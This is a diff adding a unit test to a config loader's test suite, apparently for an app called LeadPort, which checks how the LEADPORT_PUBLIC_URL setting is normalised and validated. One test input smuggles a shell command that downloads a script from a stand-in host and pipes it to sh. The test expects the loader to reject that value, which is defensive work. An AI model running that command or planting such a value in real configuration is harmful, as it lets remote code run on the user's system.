@@ -23,6 +23,12 @@ describe('loadConfig', () => {
       expect(problems.map((p) => p.split(':')[0]).sort()).toEqual(['DATABASE_URL', 'LEADPORT_ADMIN_EMAIL', 'LEADPORT_ADMIN_PASSWORD', 'PORT']);
     }
   });
+  it('takes LEADPORT_PUBLIC_URL without its trailing slash, and refuses one a shell or a page could be fooled by', () => {
+    expect(loadConfig({ LEADPORT_PUBLIC_URL: 'https://leads.example.com/' }).publicUrl).toBe('https://leads.example.com');
+    expect(loadConfig({}).publicUrl).toBeUndefined();
+    expect(() => loadConfig({ LEADPORT_PUBLIC_URL: "https://x.example'; curl evil.sh|sh;'" })).toThrow('LEADPORT_PUBLIC_URL');
+    expect(() => loadConfig({ LEADPORT_PUBLIC_URL: 'ftp://x.example' })).toThrow('LEADPORT_PUBLIC_URL');
+  });
   it('needs the admin email and password together', () => {
     expect(() => loadConfig({ LEADPORT_ADMIN_EMAIL: 'a@b.co' })).toThrow('LEADPORT_ADMIN_EMAIL and LEADPORT_ADMIN_PASSWORD must be set together');
   });
